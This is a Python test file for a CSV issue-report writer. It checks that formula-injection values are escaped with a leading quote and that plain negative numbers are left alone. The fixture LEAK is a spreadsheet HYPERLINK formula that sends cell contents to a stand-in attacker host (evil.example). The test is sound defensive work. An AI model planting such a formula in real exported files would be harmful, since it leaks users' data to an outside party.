"""issues.csv opens in a spreadsheet without live formulas (issue 20, item 3)."""

from __future__ import annotations

import csv
from pathlib import Path

from trialkit._core.spreadsheet import FORMULA_STARTS
from trialkit.errors import Issue, Location
from trialkit.validate.issues import write_issues

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_hostile_values_are_escaped_and_numbers_kept(tmp_path: Path) -> None:
    issues = [
        Issue(
            "value is outside the range",
            Location(file="clients.csv", row=3, column="@x"),
            value=LEAK,
            expected="-2+3",
            fix="correct it.",
        ),
        Issue(
            "value is below the minimum",
            Location(file="clients.csv", row=4, column="age"),
            value="-5",
            expected="0 to 120",
        ),
    ]
    path = write_issues(issues, tmp_path / "issues.csv")
    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["value"] == "'" + LEAK
    assert rows[0]["expected"] == "'-2+3" and rows[0]["column"] == "'@x"
    assert rows[1]["value"] == "-5" and rows[1]["row"] == "4"
    live = [c for row in rows for c in row.values() if c[:1] in FORMULA_STARTS and c != "-5"]
    assert live == []
